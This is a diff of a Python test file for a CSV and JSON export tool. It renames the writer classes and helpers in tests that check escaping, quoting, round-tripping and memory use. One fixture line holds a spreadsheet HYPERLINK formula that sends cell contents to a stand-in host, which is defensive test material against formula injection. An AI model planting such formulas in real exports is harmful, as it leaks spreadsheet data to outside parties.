@@ -14,11 +14,11 @@ from datetime import UTC, datetime, timedelta
 import pytest
 
 from stoker.backends.sqlite import SqliteBackend
-from stoker.base.text import restored
+from stoker.base.text import unescape_cell
 from stoker.base.types import TenantId
-from stoker.cli.export import CsvExport, JsonExport
+from stoker.cli.export import CsvWriter, JsonWriter
 from stoker.cli.main import main
-from stoker.ledger.chain import Note
+from stoker.ledger.chain import NewEntry
 
 LINK = '=HYPERLINK("http://x.invalid/?l="&A1,"click")'
 FORMULAS = [
@@ -88,7 +88,7 @@ def exported(tmp_path, capfd):
         await backend.migrate()
         at = datetime(2026, 2, 7, tzinfo=UTC)
         notes = [
-            Note(
+            NewEntry(
                 at=at,
                 kind=text,
                 subject=text,
@@ -141,7 +141,7 @@ def test_what_is_exported_as_csv_reads_back_as_it_was(exported):
     rows = list(csv.DictReader(io.StringIO(exported("csv", texts), newline="")))
 
     for column in ("kind", "subject", "reason", "account", "connector", "run", "code"):
-        assert [restored(row[column]) for row in rows] == texts
+        assert [unescape_cell(row[column]) for row in rows] == texts
     assert [json.loads(row["data"])[text] for row, text in zip(rows, texts, strict=True)] == [
         [text] for text in texts
     ]
@@ -149,7 +149,7 @@ def test_what_is_exported_as_csv_reads_back_as_it_was(exported):
 
 def test_csv_lines_end_as_spreadsheets_end_them_and_every_cell_is_quoted(tmp_path):
     with (tmp_path / "x.csv").open("wb") as stream:
-        writing = CsvExport(stream, {"a": str, "n": int})
+        writing = CsvWriter(stream, {"a": str, "n": int})
         writing.add([{"a": "x", "n": -5}, {"a": None, "n": None}, {"a": "\0=1", "n": 7}])
         writing.close()
 
@@ -176,7 +176,7 @@ def entries(pages):
         yield [{"a": f"entry {page} {row}" * 5, "n": row} for row in range(500)]
 
 
-@pytest.mark.parametrize("kind", [CsvExport, JsonExport])
+@pytest.mark.parametrize("kind", [CsvWriter, JsonWriter])
 def test_memory_stays_flat_however_much_is_exported(tmp_path, kind):
     def peak(pages):
         with (tmp_path / "x").open("wb") as stream:
@@ -261,7 +261,7 @@ def on_a_terminal(write):
 
 def test_csv_on_a_terminal_shows_every_character_as_itself():
     def write(stream):
-        CsvExport(stream, {"text": str}).add([{"text": HOSTILE}])
+        CsvWriter(stream, {"text": str}).add([{"text": HOSTILE}])
 
     sent = on_a_terminal(write)
     assert sent.count(b"\r\n") == 2  # the head and the one row
@@ -272,6 +272,6 @@ def test_csv_on_a_terminal_shows_every_character_as_itself():
 
 def test_csv_in_a_file_keeps_every_character():
     stream = io.BytesIO()
-    CsvExport(stream, {"text": str}).add([{"text": HOSTILE}])
+    CsvWriter(stream, {"text": str}).add([{"text": HOSTILE}])
     rows = list(csv.reader(io.StringIO(stream.getvalue().decode(), newline="")))
     assert rows == [["text"], [HOSTILE]]
